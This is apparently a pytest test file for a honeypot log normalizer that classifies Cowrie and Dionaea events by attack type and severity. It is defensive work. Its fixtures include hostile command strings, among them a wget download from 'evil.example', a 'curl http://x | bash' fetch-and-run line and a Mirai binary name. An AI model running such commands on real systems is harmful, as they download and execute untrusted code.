"""Tests for honeypot normalization, buffering and log reading."""

import json

import pytest

from honeyguard.core.exceptions import MalformedRecordError
from honeyguard.detection.models import ThreatLevel
from honeyguard.honeypot import HoneypotNormalizer, HoneypotOrigin, read_log_records, severity_for

TIMESTAMP = "2024-05-01T12:00:00Z"


def cowrie(**overrides):
    record = {
        "eventid": "cowrie.command.input",
        "timestamp": TIMESTAMP,
        "src_ip": "45.10.20.30",
        "dst_port": 22,
        "message": "CMD: uname -a",
        "session": "a1b2c3",
    }
    record.update(overrides)
    return record


def dionaea(**overrides):
    record = {
        "timestamp": TIMESTAMP,
        "src_ip": "91.1.2.3",
        "src_port": 40123,
        "dst_port": 445,
        "protocol": "smb",
        "connection_type": "accept",
    }
    record.update(overrides)
    return record


# === Severity ===


@pytest.mark.parametrize("attack_type,expected", [
    ("Ransomware", ThreatLevel.CRITICAL),
    ("Malware Download", ThreatLevel.CRITICAL),
    ("SMB Exploit Attempt", ThreatLevel.CRITICAL),
    ("Command Injection", ThreatLevel.HIGH),
    ("sql_injection", ThreatLevel.HIGH),
    ("SSH Brute Force", ThreatLevel.MEDIUM),
    ("brute-force", ThreatLevel.MEDIUM),
    ("FTP Attack", ThreatLevel.LOW),
])
def test_severity_for(attack_type, expected):
    assert severity_for(attack_type) == expected


def test_severity_highest_priority_wins():
    assert severity_for("ransomware brute-force") == ThreatLevel.CRITICAL
    assert severity_for("XSS with RCE") == ThreatLevel.HIGH


@pytest.mark.parametrize("attack_type", ["Resource Exhaustion", "Source Enumeration", "Forced Browsing"])
def test_severity_keywords_match_whole_words(attack_type):
    assert severity_for(attack_type) == ThreatLevel.LOW


# === Cowrie ===


class TestCowrie:
    def setup_method(self):
        self.normalizer = HoneypotNormalizer()

    def test_credentials_mean_brute_force(self):
        event = self.normalizer.normalize(
            cowrie(username="root", password="123456", input="ls -la"), "cowrie"
        )
        assert event.attack_type == "SSH Brute Force"
        assert event.severity == ThreatLevel.MEDIUM
        assert event.protocol == "SSH/Telnet"
        assert event.payload == "ls -la"
        assert event.destination_port == 22
        assert event.origin == HoneypotOrigin.COWRIE

    def test_download_command(self):
        event = self.normalizer.normalize(cowrie(input="wget http://evil.example/x.sh"), "cowrie")
        assert event.attack_type == "Command Injection"
        assert event.severity == ThreatLevel.HIGH

    def test_botnet_binary(self):
        event = self.normalizer.normalize(cowrie(input="./mirai.x86"), "cowrie")
        assert event.attack_type == "Botnet Activity"
        assert event.severity == ThreatLevel.CRITICAL

    def test_falls_back_to_message(self):
        event = self.normalizer.normalize(cowrie(), "cowrie")
        assert event.attack_type == "SSH Intrusion Attempt"
        assert event.payload == "CMD: uname -a"
        assert event.severity == ThreatLevel.LOW

    def test_raw_record_preserved(self):
        raw = cowrie(sensor="hp-01")
        event = self.normalizer.normalize(raw, "cowrie")
        assert event.raw["sensor"] == "hp-01"


# === Dionaea ===


class TestDionaea:
    def setup_method(self):
        self.normalizer = HoneypotNormalizer()

    def test_smb(self):
        event = self.normalizer.normalize(dionaea(), "dionaea")
        assert event.attack_type == "SMB Exploit Attempt"
        assert event.severity == ThreatLevel.CRITICAL
        assert event.protocol == "SMB"

    @pytest.mark.parametrize("port,protocol,expected", [
        (21, "ftp", "FTP Attack"),
        (8080, "tcp", "HTTP Exploit"),
        (1433, "mssqld", "MSSQL Attack"),
        (3306, "mysqld", "MySQL Attack"),
    ])
    def test_service_rules(self, port, protocol, expected):
        event = self.normalizer.normalize(dionaea(dst_port=port, protocol=protocol), "dionaea")
        assert event.attack_type == expected

    def test_capture_with_hash_is_malware(self):
        event = self.normalizer.normalize(
            dionaea(dst_port=69, protocol="tftp", md5="d41d8cd98f00b204e9800998ecf8427e"),
            "dionaea",
        )
        assert event.attack_type == "Malware Download"
        assert event.severity == ThreatLevel.CRITICAL

    def test_unknown_service(self):
        event = self.normalizer.normalize(dionaea(dst_port=5060, protocol="sip"), "dionaea")
        assert event.attack_type == "Network Exploit"
        assert event.severity == ThreatLevel.LOW


# === Malformed input ===


class TestMalformed:
    def setup_method(self):
        self.normalizer = HoneypotNormalizer()

    def test_missing_fields_return_none(self):
        assert self.normalizer.normalize({"src_ip": "1.2.3.4"}, "cowrie") is None
        assert self.normalizer.normalize(dionaea(dst_port=None), "dionaea") is None

    def test_non_object_returns_none(self):
        assert self.normalizer.normalize("not a record", "dionaea") is None
        assert self.normalizer.normalize(None, "cowrie") is None

    def test_unknown_origin_returns_none(self):
        assert self.normalizer.normalize(cowrie(), "glastopf") is None

    def test_parse_raises_with_origin(self):
        with pytest.raises(MalformedRecordError) as exc_info:
            self.normalizer.parse({"src_ip": "1.2.3.4"}, "cowrie")
        assert exc_info.value.origin == "cowrie"
        assert "eventid" in str(exc_info.value.details["errors"])

    def test_malformed_not_buffered(self):
        assert self.normalizer.ingest({}, "cowrie") is None
        assert len(self.normalizer) == 0


# === Buffer and flush ===


class TestBuffer:
    def setup_method(self):
        self.normalizer = HoneypotNormalizer(buffer_size=3)

    def test_flush_summarises_then_trims(self):
        for i in range(5):
            self.normalizer.ingest(cowrie(src_ip=f"10.0.0.{i % 2}"), "cowrie")

        summary = self.normalizer.flush()

        assert summary.total_events == 5
        assert summary.unique_source_ips == 2
        assert summary.attack_types == {"SSH Intrusion Attempt": 5}
        assert summary.origin_counts == {"cowrie": 5}
        assert len(summary.features) == 5
        assert summary.retained_events == 3
        assert len(self.normalizer) == 3

    def test_flush_empty(self):
        summary = self.normalizer.flush()
        assert summary.total_events == 0
        assert summary.features == []

    def test_feature_rows(self):
        self.normalizer.ingest(cowrie(input="curl http://x | bash; echo '1'"), "cowrie")
        row = self.normalizer.flush().features[0]
        assert row.has_command_injection is True
        assert row.has_special_chars is True
        assert row.has_sql_patterns is False
        assert row.honeypot_source == HoneypotOrigin.COWRIE

    def test_captured_and_stats(self):
        self.normalizer.ingest(cowrie(username="root", password="x"), "cowrie")
        self.normalizer.ingest(dionaea(), "dionaea")
        self.normalizer.ingest(cowrie(input="wget http://x"), "cowrie")

        captured = self.normalizer.captured(2)
        assert [e.origin for e in captured] == [HoneypotOrigin.DIONAEA, HoneypotOrigin.COWRIE]

        stats = self.normalizer.stats()
        assert stats["total_logs"] == 3
        assert stats["cowrie_logs"] == 2
        assert stats["dionaea_logs"] == 1
        assert stats["critical_attacks"] == 1
        assert stats["high_attacks"] == 1


# === Log files ===


def test_read_log_records_skips_bad_lines(tmp_path):
    path = tmp_path / "cowrie.json"
    path.write_text(
        json.dumps(cowrie()) + "\n"
        + "\n"
        + "{not json\n"
        + json.dumps(cowrie(src_ip="1.1.1.1")) + "\n",
        encoding="utf-8",
    )

    records = list(read_log_records(path))

    assert len(records) == 2
    assert records[1]["src_ip"] == "1.1.1.1"
